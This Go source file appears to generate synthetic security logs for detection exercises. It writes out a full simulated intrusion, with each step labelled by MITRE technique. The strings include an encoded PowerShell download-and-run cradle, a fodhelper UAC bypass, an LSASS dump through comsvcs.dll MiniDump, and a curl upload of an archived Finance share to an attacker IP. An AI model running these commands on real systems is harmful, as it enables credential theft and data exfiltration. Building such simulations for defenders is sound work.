package demo

import (
	"encoding/base64"
	"math/rand/v2"
	"strconv"
	"strings"
)

// Attacker infrastructure. The addresses are from the documentation ranges (RFC 5737), so they never collide with
// a real host.
const (
	atkDomain    = "ledgerpay-invoices.com"
	atkC2Domain  = "sync.ledgerpay-invoices.com"
	atkPayloadIP = "203.0.113.45"
	atkExfilIP   = "198.51.100.23"
	atkLoginIP   = "192.0.2.77"
	atkMailIP    = "192.0.2.140"
	atkSender    = "accounts@ledgerpay-invoices.com"
)

// attack is the plan of the attack, fixed before the background is generated.
type attack struct {
	t0       int64
	victim   *user
	admin    *user
	adminWS  *device
	ws       *device
	target   *device
	dc       *device
	docName  string
	docHash  *binary
	implant  *binary
	svcBin   *binary
	archiver *binary
	svcName  string
}

// planAttack chooses the attack's entities and time; runAttack writes it when the hour loop reaches attackHour.
func (g *gen) planAttack(r *rand.Rand) {
	w := g.w
	a := &attack{}
	var finance []*user
	for _, u := range w.people {
		if u.ws != nil && u.dept == "Finance" && u.dept != "IT" {
			finance = append(finance, u)
		}
	}
	if len(finance) == 0 {
		for _, u := range w.people {
			if u.ws != nil && u.dept != "IT" {
				finance = append(finance, u)
			}
		}
	}
	a.victim = pick(r, finance)
	a.ws = a.victim.ws
	a.ws.localAdmins = true
	a.admin = w.admins[0]
	for _, u := range w.people {
		if "adm-"+u.sam == a.admin.sam && u.ws != nil && u.ws != a.ws {
			a.adminWS = u.ws
		}
	}
	if a.adminWS == nil {
		a.adminWS = w.ws[0]
		if a.adminWS == a.ws {
			a.adminWS = w.ws[len(w.ws)-1]
		}
	}
	a.target = w.fileServer
	a.dc = w.dcs[0]
	inv := strconv.Itoa(4000 + r.IntN(999))
	a.docName = "Invoice_INV-" + inv + ".docm"
	a.docHash = newBinary(`C:\Users\`+a.victim.sam+`\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\`+strings.ToUpper(hexID(r, 8)), a.docName, "", "", "", "", 48_213, "attack")
	a.implant = newBinary(`C:\Users\`+a.victim.sam+`\AppData\Roaming\Microsoft\Crypto`, "msupd.exe", "", "", "", "", 217_088, "attack")
	svc := randLetters(r, 8) + ".exe"
	a.svcBin = newBinary(dirWin, svc, "", "", "", "", 14_336, "attack")
	a.svcName = randLetters(r, 4)
	a.archiver = newBinary(`C:\ProgramData`, "7za.exe", "Igor Pavlov", "7-Zip", "24.08", "7-Zip Standalone Console", 1_234_944, "attack")

	// Day six of seven, mid-morning; the whole attack lies inside the data.
	base := g.start + int64(max(g.opts.Days-2, 0))*day
	t0 := base - base%day + 9*hour + 20*minute + r.Int64N(30*minute/1000)*1000
	for t0-hour < g.start {
		t0 += day
	}
	if t0+3*hour > g.end {
		t0 = g.start + (g.end-g.start)/2 - hour
	}
	a.t0 = t0
	g.atk = a
	g.attackHour = int((t0 - hour - g.start) / hour)
	if g.attackHour < 0 {
		g.attackHour = 0
	}
	e := &g.truth.Entities
	e.VictimUser, e.VictimAccount, e.VictimSID = a.victim.upn, a.victim.sam, a.victim.sid
	e.CompromisedAdmin, e.AdminAccount = a.admin.upn, a.admin.sam
	e.VictimHost, e.VictimHostID, e.VictimIP = a.ws.name, a.ws.id, a.ws.ip
	e.TargetHost, e.TargetHostID, e.TargetIP = a.target.name, a.target.id, a.target.ip
	e.DomainController = a.dc.name
	e.Sender = atkSender
	e.AttackerIPs = []string{atkPayloadIP, atkExfilIP, atkLoginIP, atkMailIP}
	e.AttackerDomains = []string{atkDomain, atkC2Domain}
	e.URLs = []string{"https://" + atkDomain + "/portal/INV-" + inv, "https://" + atkDomain + "/cdn/msupd.bin", "https://" + atkExfilIP + ":8443/upload/"}
	for _, b := range []*binary{a.docHash, a.implant, a.svcBin, a.archiver} {
		e.Files = append(e.Files, File{Name: b.name, Path: b.path, SHA256: b.sha256, SHA1: b.sha1, MD5: b.md5})
	}
}

func randLetters(r *rand.Rand, n int) string {
	const letters = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
	b := make([]byte, n)
	for i := range b {
		b[i] = letters[r.IntN(len(letters))]
	}
	return string(b)
}

// encodedCommand returns PowerShell's -EncodedCommand form of script (base64 of UTF-16LE).
func encodedCommand(script string) string {
	b := make([]byte, 0, 2*len(script))
	for i := 0; i < len(script); i++ {
		b = append(b, script[i], 0)
	}
	return base64.StdEncoding.EncodeToString(b)
}

// runAttack writes every row of the attack; hs is the start of the hour before it.
func (g *gen) runAttack(hs int64) {
	a := g.atk
	w := g.w
	b := w.bins
	ws, fs, dc := a.ws, a.target, a.dc
	v, adm := a.victim, a.admin
	t0 := a.t0
	j := func(d int64) int64 { return d + g.jitter(40*ms) } // a little noise on step offsets

	// Context (benign): the helpdesk admin connected to the victim's workstation over RDP earlier that morning, which
	// left the admin's credentials in LSASS.
	s := g.session(ws, max(hs, t0-55*minute))
	rdp := t0 - 40*minute - g.jitter(5*minute)
	rdpID := 0x2000000 + g.r.Int64N(0x1000000)
	g.deviceLogon(ws, rdp, ws.sys["lsass"], logonEvent{action: "LogonSuccess", logonType: "RemoteInteractive", protocol: "Kerberos", u: adm,
		remoteDevice: a.adminWS.short, remoteIP: a.adminWS.ip, logonID: rdpID, localAdmin: true})
	g.security(ws, rdp, secEvent{id: 4624, subjSys: "$", subjLogon: "0x3e7", tgt: adm, tgtLogon: hexLogon(rdpID), logonType: 10,
		logonProc: "User32 ", authPkg: "Negotiate", workstation: a.adminWS.short, ip: a.adminWS.ip, port: "0", elevated: "%%1842"})
	g.security(ws, rdp+18*minute, secEvent{id: 4634, tgt: adm, tgtLogon: hexLogon(rdpID), logonType: 10})

	// Initial access: the phishing mail with a macro document and a link to a credential-harvesting page.
	url := g.truth.Entities.URLs[0]
	m := mail{id: guid(g.r), internetID: "<" + hexID(g.r, 24) + "@" + atkDomain + ">", from: atkSender, fromName: "LedgerPay Accounts",
		fromDomain: atkDomain, senderIP: atkMailIP, to: v, subject: "Overdue invoice " + strings.TrimSuffix(strings.TrimPrefix(a.docName, "Invoice_"), ".docm") + " - payment required",
		direction: "Inbound", delivery: "Delivered", location: "Inbox/folder", confidence: `{"Spam":"Low"}`,
		auth: `{"SPF":"pass","DKIM":"pass","DMARC":"pass","CompAuth":"pass"}`, urls: []string{url},
		attach: []attachment{{name: a.docName, typ: "docm", sha256: a.docHash.sha256, size: a.docHash.size}}}
	ev, urls, atts := g.emailRows(t0, m)
	g.lastTable, g.lastTS = tEmail, t0
	g.mark(nil, StageInitialAccess, "T1566.001", "Phishing mail from "+atkSender+" delivered to "+v.upn, map[string]any{"NetworkMessageId": m.id, "RecipientEmailAddress": v.upn})
	_ = ev
	g.lastTable, g.lastTS = tEmailURL, t0+ms
	g.mark(nil, StageInitialAccess, "T1566.002", "Link to the credential-harvesting page in the phishing mail", map[string]any{"ReportId": urls[0]})
	g.lastTable, g.lastTS = tEmailAttachment, t0+ms
	g.mark(nil, StageInitialAccess, "T1566.001", "Macro-enabled attachment "+a.docName, map[string]any{"ReportId": atts[0]})

	tc := t0 + 6*minute + g.jitter(30*second)
	id := g.urlClick(tc, v, url, m.id, officeIP, "ClickAllowed", "")
	g.mark(nil, StageInitialAccess, "T1566.002", "Victim clicked the phishing link", map[string]any{"ReportId": id})
	g.connect(ws, tc+900*ms, s.browser, "ConnectionSuccess", atkPayloadIP, 443, atkDomain, "Tcp", "")
	g.mark(ws, StageInitialAccess, "T1566.002", "Browser opened the phishing page", nil)

	// Execution: the attachment is opened, the macro starts an encoded PowerShell download cradle.
	tx := t0 + 8*minute + g.jitter(30*second)
	g.file(ws, tx, s.outlook, fileEvent{action: "FileCreated", name: a.docName, folder: a.docHash.path[:len(a.docHash.path)-len(a.docName)-1],
		sha1: a.docHash.sha1, sha256: a.docHash.sha256, md5: a.docHash.md5, size: a.docHash.size})
	g.mark(ws, StageExecution, "T1204.002", "Outlook saved the attachment", nil)
	word := g.spawn(ws, tx+j(20*second), s.outlook, b["winword"], `"C:\Program Files\Microsoft Office\Root\Office16\WINWORD.EXE" /n "`+a.docHash.path+`" /o ""`)
	g.mark(ws, StageExecution, "T1204.002", "Word opened the macro document", nil)
	g.imageLoad(ws, tx+j(22*second), word, w.dlls[11])
	g.mark(ws, StageExecution, "T1059.005", "Word loaded the VBA engine (macro execution)", nil)
	script := `$u='https://` + atkDomain + `/cdn/msupd.bin';$p="$env:APPDATA\Microsoft\Crypto\msupd.exe";(New-Object Net.WebClient).DownloadFile($u,$p);Start-Process $p`
	ps := g.spawn(ws, tx+j(31*second), word, b["powershell"], `powershell.exe -NoP -NonI -W Hidden -Enc `+encodedCommand(script))
	g.mark(ws, StageExecution, "T1059.001", "Word spawned encoded PowerShell", nil)
	g.imageLoad(ws, tx+31*second+400*ms, ps, w.dlls[0])
	g.deviceEvent(ws, tx+j(32*second), ps, deviceEvent{action: "PowerShellCommand", additional: `{"Command":"DownloadFile"}`})
	g.mark(ws, StageExecution, "T1059.001", "PowerShell downloaded a file", nil)
	g.connect(ws, tx+j(33*second), ps, "ConnectionSuccess", atkPayloadIP, 443, atkDomain, "Tcp", "")
	g.mark(ws, StageCommandAndControl, "T1105", "PowerShell connected to the payload host", nil)
	imp := a.implant
	g.file(ws, tx+j(35*second), ps, fileEvent{action: "FileCreated", name: imp.name, folder: imp.path[:len(imp.path)-len(imp.name)-1],
		sha1: imp.sha1, sha256: imp.sha256, md5: imp.md5, size: imp.size, originURL: g.truth.Entities.URLs[1], originIP: atkPayloadIP})
	g.mark(ws, StageCommandAndControl, "T1105", "Implant msupd.exe written to disk", nil)
	im := g.spawn(ws, tx+j(37*second), ps, imp, `"`+imp.path+`"`)
	g.mark(ws, StageExecution, "T1204.002", "Implant started", nil)

	// Persistence.
	g.registry(ws, tx+j(39*second), im, "RegistryValueSet", `HKEY_CURRENT_USER\`+v.sid+`\Software\Microsoft\Windows\CurrentVersion\Run`,
		"MicrosoftUpdateCore", "RegistryValueType.String", `"`+imp.path+`" -silent`, "")
	g.mark(ws, StagePersistence, "T1547.001", "Run key for the implant", nil)

	// Command and control: beacons every few minutes until the end.
	end := t0 + 110*minute
	for tb := tx + 45*second; tb < end; tb += 4*minute + g.jitter(2*minute) {
		g.connect(ws, tb, im, "ConnectionSuccess", atkPayloadIP, 443, atkC2Domain, "Tcp", "")
		g.mark(ws, StageCommandAndControl, "T1071.001", "Implant beacon over HTTPS", nil)
	}

	// Discovery.
	td := t0 + 18*minute
	cmd := g.spawn(ws, td, im, b["cmd"], `C:\Windows\system32\cmd.exe /c whoami /all`)
	g.mark(ws, StageDiscovery, "T1059.003", "Implant started a command shell", nil)
	g.spawn(ws, td+200*ms, cmd, b["whoami"], "whoami  /all")
	g.mark(ws, StageDiscovery, "T1033", "whoami /all", nil)
	cmd2 := g.spawn(ws, td+j(40*second), im, b["cmd"], `C:\Windows\system32\cmd.exe /c net group "Domain Admins" /domain`)
	g.mark(ws, StageDiscovery, "T1059.003", "Implant started a command shell", nil)
	n := g.spawn(ws, td+40*second+150*ms, cmd2, b["net"], `net  group "Domain Admins" /domain`)
	g.mark(ws, StageDiscovery, "T1069.002", "Domain Admins group enumerated", nil)
	g.spawn(ws, td+40*second+200*ms, n, b["net1"], `C:\Windows\system32\net1  group "Domain Admins" /domain`)
	g.mark(ws, StageDiscovery, "T1069.002", "Domain Admins group enumerated", nil)
	g.spawn(ws, td+j(75*second), im, b["nltest"], `nltest /dclist:`+adDomain)
	g.mark(ws, StageDiscovery, "T1018", "Domain controllers listed", nil)
	g.spawn(ws, td+j(110*second), im, b["net"], `net view \\`+fs.short+` /all`)
	g.mark(ws, StageDiscovery, "T1018", "Shares of the file server listed", nil)

	// Initial access to the cloud: the harvested password is used from the attacker's VPS.
	tl := t0 + 22*minute + g.jitter(minute)
	sid := g.signinRow(tl, signin{u: v, app: "OfficeHome", appID: "4765445b-32c6-49b0-83e6-1d93765276ca", resource: "OfficeHome", ip: atkLoginIP,
		country: "NL", city: "Amsterdam", state: "Noord-Holland", lat: "52.3676", lon: "4.9041", result: "0", client: "Browser", interactive: true,
		os: "Windows10", browser: "Chrome 129.0.0", asn: "64496", risk: "medium",
		ua: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36"})
	g.mark(nil, StageInitialAccess, "T1078.004", "Sign-in with the phished password from the attacker's address", map[string]any{"Id": sid})

	// Privilege escalation: fodhelper UAC bypass.
	tp := t0 + 27*minute
	key := `HKEY_CURRENT_USER\` + v.sid + `\Software\Classes\ms-settings\Shell\Open\command`
	g.registry(ws, tp, im, "RegistryKeyCreated", key, "", "", "", "")
	g.mark(ws, StagePrivilegeEscalation, "T1548.002", "ms-settings handler key created (fodhelper bypass)", nil)
	g.registry(ws, tp+100*ms, im, "RegistryValueSet", key, "DelegateExecute", "RegistryValueType.String", "", "")
	g.mark(ws, StagePrivilegeEscalation, "T1548.002", "DelegateExecute set (fodhelper bypass)", nil)
	g.registry(ws, tp+200*ms, im, "RegistryValueSet", key, "(Default)", "RegistryValueType.String", `"`+imp.path+`" -elevated`, "")
	g.mark(ws, StagePrivilegeEscalation, "T1548.002", "ms-settings handler points to the implant", nil)
	fod := g.spawn(ws, tp+halfMinute, im, b["fodhelper"], `"C:\Windows\system32\fodhelper.exe"`)
	g.mark(ws, StagePrivilegeEscalation, "T1548.002", "fodhelper.exe started by the implant", nil)
	fod.integrity, fod.elevation = "High", "TokenElevationTypeFull"
	ime := g.spawn(ws, tp+halfMinute+800*ms, fod, imp, `"`+imp.path+`" -elevated`)
	g.mark(ws, StagePrivilegeEscalation, "T1548.002", "Implant running elevated", nil)
	g.registry(ws, tp+halfMinute+2*second, ime, "RegistryKeyDeleted", `HKEY_CURRENT_USER\`+v.sid+`\Software\Classes\ms-settings`, "", "", "", "")
	g.mark(ws, StageDefenseEvasion, "T1112", "Bypass key removed", nil)

	// Credential access: LSASS dumped with comsvcs.dll MiniDump.
	tcred := t0 + 33*minute + g.jitter(minute)
	lsass := ws.sys["lsass"]
	dump := `C:\Users\Public\Documents\wct` + strings.ToUpper(hexID(g.r, 4)) + ".tmp"
	rd := g.spawn(ws, tcred, ime, b["rundll32"], `"C:\Windows\System32\rundll32.exe" C:\Windows\System32\comsvcs.dll, MiniDump `+strconv.FormatInt(lsass.pid, 10)+` `+dump+` full`)
	g.mark(ws, StageCredentialAccess, "T1003.001", "rundll32 comsvcs.dll MiniDump of LSASS", nil)
	g.imageLoad(ws, tcred+50*ms, rd, w.dlls[12])
	g.mark(ws, StageCredentialAccess, "T1003.001", "rundll32 loaded comsvcs.dll", nil)
	g.deviceEvent(ws, tcred+120*ms, rd, deviceEvent{action: "OpenProcessApiCall", fileName: "lsass.exe", folder: lsass.bin.path,
		sha1: lsass.bin.sha1, sha256: lsass.bin.sha256, target: lsass, additional: `{"DesiredAccess":2097151}`})
	g.mark(ws, StageCredentialAccess, "T1003.001", "Handle to lsass.exe opened with full access", nil)
	handle := "0x" + strconv.FormatInt(0x400+g.r.Int64N(0x4000), 16)
	g.security(ws, tcred+120*ms, secEvent{id: 4656, subj: v, subjLogon: hexLogon(s.logonID), objectType: "Process",
		objectName: `\Device\HarddiskVolume3\Windows\System32\lsass.exe`, handleID: handle, accessMask: "0x1FFFFF",
		process: `C:\Windows\System32\rundll32.exe`, processID: hexLogon(rd.pid)})
	g.mark(ws, StageCredentialAccess, "T1003.001", "Handle to lsass.exe requested (audit)", map[string]any{"Computer": ws.computer(), "EventID": int64(4656), "HandleId": handle})
	dumpName := dump[strings.LastIndexByte(dump, '\\')+1:]
	g.file(ws, tcred+j(2*second), rd, fileEvent{action: "FileCreated", name: dumpName, folder: `C:\Users\Public\Documents`, size: 58_720_256 + g.r.Int64N(8_000_000)})
	g.mark(ws, StageCredentialAccess, "T1003.001", "LSASS dump written", nil)

	// Lateral movement: pass-the-hash with the admin's NTLM hash to the file server, then a remote service.
	tm := t0 + 41*minute + g.jitter(minute)
	g.connect(ws, tm, ime, "ConnectionSuccess", fs.ip, 445, "", "Tcp", "")
	g.mark(ws, StageLateralMovement, "T1021.002", "SMB connection to the file server", nil)
	g.security(dc, tm+30*ms, secEvent{id: 4776, tgt: adm, workstation: ws.short, status: "0x0", authPkg: "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0"})
	g.mark(nil, StageLateralMovement, "T1550.002", "NTLM validation of the admin account from the victim workstation",
		map[string]any{"Computer": dc.computer(), "EventID": int64(4776), "TargetUserName": adm.sam})
	lid := g.identityLogon(tm+40*ms, idLogon{action: "LogonSuccess", logonType: "Resource access", protocol: "Ntlm", u: adm, from: ws, dc: dc, destPort: 445, target: fs,
		additional: `{"Count":1,"Spns":"cifs/` + fs.name + `"}`})
	g.mark(nil, StageLateralMovement, "T1550.002", "Admin account used over NTLM from the victim workstation", map[string]any{"ReportId": lid})
	g.inbound(fs, tm+50*ms, fs.sys["system"], ws.ip, 445)
	g.mark(fs, StageLateralMovement, "T1021.002", "File server accepted SMB from the victim workstation", nil)
	lat := 0x3000000 + g.r.Int64N(0x1000000)
	g.deviceLogon(fs, tm+60*ms, fs.sys["lsass"], logonEvent{action: "LogonSuccess", logonType: "Network", protocol: "NTLM", u: adm,
		remoteDevice: ws.short, remoteIP: ws.ip, logonID: lat, localAdmin: true})
	g.mark(fs, StageLateralMovement, "T1550.002", "Network logon of the admin account on the file server", nil)
	g.security(fs, tm+60*ms, secEvent{id: 4624, subjSys: "-", subjLogon: "0x0", tgt: adm, tgtLogon: hexLogon(lat), logonType: 3, logonProc: "NtLmSsp ",
		authPkg: "NTLM", workstation: ws.short, ip: ws.ip, port: strconv.Itoa(49152 + g.r.IntN(16000)), processID: "0x0", process: "-",
		elevated: "%%1842"})
	g.mark(nil, StageLateralMovement, "T1550.002", "Logon type 3 (NTLM) of the admin account on the file server",
		map[string]any{"Computer": fs.computer(), "EventID": int64(4624), "TargetLogonId": hexLogon(lat)})
	g.security(fs, tm+61*ms, secEvent{id: 4672, subj: adm, subjLogon: hexLogon(lat), privileges: privilegesAdmin})
	g.mark(nil, StageLateralMovement, "T1550.002", "Special privileges assigned to the admin logon",
		map[string]any{"Computer": fs.computer(), "EventID": int64(4672), "SubjectLogonId": hexLogon(lat)})
	smb := fileEvent{reqProto: "SMB", reqIP: ws.ip, reqUser: adm.sam, reqDomain: netbios, reqSID: adm.sid, share: "ADMIN$"}
	sb := a.svcBin
	f := smb
	f.action, f.name, f.folder, f.sha1, f.sha256, f.md5, f.size = "FileCreated", sb.name, dirWin, sb.sha1, sb.sha256, sb.md5, sb.size
	g.file(fs, tm+j(2*second), fs.sys["system"], f)
	g.mark(fs, StageLateralMovement, "T1570", "Service binary copied to ADMIN$", nil)
	tsv := tm + 3*second
	g.security(fs, tsv, secEvent{id: 4697, subj: adm, subjLogon: hexLogon(lat), serviceName: a.svcName, serviceFile: `%systemroot%\` + sb.name,
		serviceType: "0x10", serviceStart: 3, serviceAcct: "LocalSystem"})
	g.mark(nil, StageLateralMovement, "T1569.002", "Service "+a.svcName+" installed remotely",
		map[string]any{"Computer": fs.computer(), "EventID": int64(4697), "ServiceName": a.svcName})
	g.deviceEvent(fs, tsv+10*ms, fs.sys["services"], deviceEvent{action: "ServiceInstalled", fileName: sb.name, folder: sb.path,
		acct:       &account{domain: strings.ToLower(netbios), name: adm.sam, sid: adm.sid},
		additional: `{"ServiceName":"` + a.svcName + `","ServiceType":"Win32OwnProcess","ServiceStartType":"DemandStart","ServiceAccount":"LocalSystem"}`})
	g.mark(fs, StageLateralMovement, "T1543.003", "ServiceInstalled on the file server", nil)
	svcp := g.spawn(fs, tsv+400*ms, fs.sys["services"], sb, `C:\Windows\`+sb.name)
	g.mark(fs, StageLateralMovement, "T1569.002", "services.exe started the remote service binary", nil)
	sh := g.spawn(fs, tsv+j(2*second), svcp, b["cmd"], `cmd.exe /Q /c cd \ 1> \\127.0.0.1\ADMIN$\__`+strconv.FormatInt(tsv/1e9, 10)+` 2>&1`)
	g.mark(fs, StageLateralMovement, "T1059.003", "Remote command shell on the file server", nil)

	// Collection: the archiver is copied over and the Finance share packed.
	tcol := t0 + 55*minute + g.jitter(2*minute)
	ar := a.archiver
	f = smb
	f.action, f.name, f.folder, f.sha1, f.sha256, f.md5, f.size = "FileCreated", ar.name, `C:\ProgramData`, ar.sha1, ar.sha256, ar.md5, ar.size
	g.file(fs, tcol, fs.sys["system"], f)
	g.mark(fs, StageLateralMovement, "T1570", "7za.exe copied to the file server", nil)
	sh2 := g.spawn(fs, tcol+j(40*second), svcp, b["cmd"], `cmd.exe /Q /c C:\ProgramData\7za.exe a -mx3 -pFin2024! C:\ProgramData\fin_archive.7z D:\Shares\Finance\*`)
	g.mark(fs, StageCollection, "T1059.003", "Remote shell ran the archiver", nil)
	z := g.spawn(fs, tcol+40*second+100*ms, sh2, ar, `C:\ProgramData\7za.exe  a -mx3 -pFin2024! C:\ProgramData\fin_archive.7z D:\Shares\Finance\*`)
	g.mark(fs, StageCollection, "T1560.001", "Finance share archived with 7-Zip", nil)
	archive := int64(1_870_000_000) + g.r.Int64N(90_000_000)
	_, a256, _ := fileHashes(`C:\ProgramData\fin_archive.7z`, archive)
	g.file(fs, tcol+40*second+2*minute+g.jitter(minute), z, fileEvent{action: "FileCreated", name: "fin_archive.7z", folder: `C:\ProgramData`, sha256: a256, size: archive})
	g.mark(fs, StageCollection, "T1005", "Encrypted archive of the Finance share written", nil)
	_ = sh

	// Exfiltration: the archive leaves over HTTPS to a rare address, in parts.
	tex := t0 + 80*minute + g.jitter(2*minute)
	sh3 := g.spawn(fs, tex, svcp, b["cmd"], `cmd.exe /Q /c curl.exe -sk -T C:\ProgramData\fin_archive.7z https://`+atkExfilIP+`:8443/upload/`)
	g.mark(fs, StageExfiltration, "T1059.003", "Remote shell ran curl", nil)
	cu := g.spawn(fs, tex+100*ms, sh3, b["curl"], `curl.exe  -sk -T C:\ProgramData\fin_archive.7z https://`+atkExfilIP+`:8443/upload/`)
	g.mark(fs, StageExfiltration, "T1048.002", "curl uploaded the archive", nil)
	parts := int64(4)
	for i := int64(0); i < parts; i++ {
		sent := archive / parts
		g.connect(fs, tex+halfMinute+i*4*minute+g.jitter(30*second), cu, "ConnectionSuccess", atkExfilIP, 8443, "", "Tcp",
			`{"direction":"Outbound","BytesSent":`+strconv.FormatInt(sent, 10)+`,"BytesReceived":`+strconv.FormatInt(4_000+g.r.Int64N(20_000), 10)+`,"DurationSeconds":`+strconv.FormatInt(200+g.r.Int64N(40), 10)+`}`)
		g.mark(fs, StageExfiltration, "T1048.002", "Large upload to the exfiltration address", nil)
	}

	// Cleanup.
	tcl := t0 + 102*minute + g.jitter(minute)
	g.file(fs, tcl, sh3, fileEvent{action: "FileDeleted", name: "fin_archive.7z", folder: `C:\ProgramData`})
	g.mark(fs, StageDefenseEvasion, "T1070.004", "Archive deleted", nil)
	g.file(fs, tcl+200*ms, sh3, fileEvent{action: "FileDeleted", name: ar.name, folder: `C:\ProgramData`})
	g.mark(fs, StageDefenseEvasion, "T1070.004", "Archiver deleted", nil)
	g.file(ws, tcl+j(20*second), ime, fileEvent{action: "FileDeleted", name: dumpName, folder: `C:\Users\Public\Documents`})
	g.mark(ws, StageDefenseEvasion, "T1070.004", "LSASS dump deleted", nil)
}
